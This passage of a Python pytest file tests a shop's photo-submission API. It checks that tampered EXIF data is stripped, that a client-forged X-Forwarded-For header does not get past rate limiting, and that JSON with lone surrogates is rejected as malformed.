    image.save(out, "JPEG", exif=exif)
    model = b"\x01\x10\x00\x02"  # tag 0x0110 of type ASCII, big-endian as Pillow writes it
    assert out.getvalue().count(model) == 1
    damaged = out.getvalue().replace(model, b"\x01\x17\x00\x02")  # …under a numeric tag's id
    response = send(shop, photos=[photo("IMG_0001.JPG", damaged)])
    assert response.status_code == 201, response.text
    [row] = rows(shop)
    with Image.open(shop.settings.var_dir / "submissions" / row.reference / "photo-1.jpg") as kept:
        assert kept.size == (80, 120) and not kept.getexif()
    assert_consistent(shop, 1)


def test_an_address_the_client_put_before_the_proxys_header_is_not_its_key(
    shop_factory: Any, tmp_path: Path
) -> None:
    """Some proxies (HAProxy's `option forwardfor`) add their own X-Forwarded-For line after
    the client's: the address the proxy saw is the last of all the lines, not of the first."""
    shop: Shop = shop_factory(
        var_dir=tmp_path / "var", trust_forwarded_for=True, submission_burst=1
    )

    def post(forged: str) -> int:
        headers = [
            ("Origin", SITE_ORIGIN),
            ("X-Forwarded-For", forged),  # the client's own line, any value it likes
            ("X-Forwarded-For", "198.51.100.9"),  # the proxy's line: the real address
        ]
        data = {"submission": json.dumps(submission())}
        response = shop.client.post("/api/submissions", data=data, files=[photo()], headers=headers)
        return response.status_code

    assert post("10.0.0.1") == 201
    assert post("10.0.0.2") == 429  # a new forged address is still the same client
    assert_consistent(shop, 1)


@pytest.mark.parametrize(
    "extra",
    ['"\\ud800": "\\u0000"', '"x\\udfff": {"a": 1}', '"tags": ["\\ud83d"]'],
    ids=["key-with-control-value", "key", "value"],
)
def test_a_lone_surrogate_anywhere_in_the_json_is_refused_as_malformed(
    shop: Shop, extra: str
) -> None:
    """JSON may escape half of a UTF-16 pair (`"\\ud800"`): not a character, it can be neither
    stored nor named in an answer (which is UTF-8). Refused as the broken text it is."""
    raw = json.dumps(submission())[:-1] + ", " + extra + "}"
    error = refused(send(shop, raw=raw), 400, "malformed_json", "submission")
    assert "JSON" in error["message"]
    assert_consistent(shop, 0)
